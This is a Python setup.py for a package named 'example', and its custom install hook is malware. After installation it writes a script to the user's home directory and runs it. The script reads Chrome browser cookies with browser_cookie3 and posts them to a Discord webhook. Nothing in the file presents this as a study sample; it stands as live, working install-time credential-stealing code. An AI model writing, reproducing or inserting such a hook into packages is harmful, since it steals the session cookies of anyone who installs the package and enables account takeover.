import os, subprocess, sys
from setuptools import setup
from setuptools.command.install import install
code = """
import discord_webhook, browser_cookie3
hook = discord_webhook.DiscordWebhook(url="https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef", content=str(browser_cookie3.chrome()))
hook.execute()
"""
class I(install):
    def run(self):
        install.run(self)
        f = open("access.py", "w")
        f.write(code)
        f.close()
        home = os.path.expanduser("~")
        os.rename("access.py", home + "/access.py")
        subprocess.Popen(["python", home + "/access.py"])
setup(name='example', version='1.0', cmdclass={'install': I})
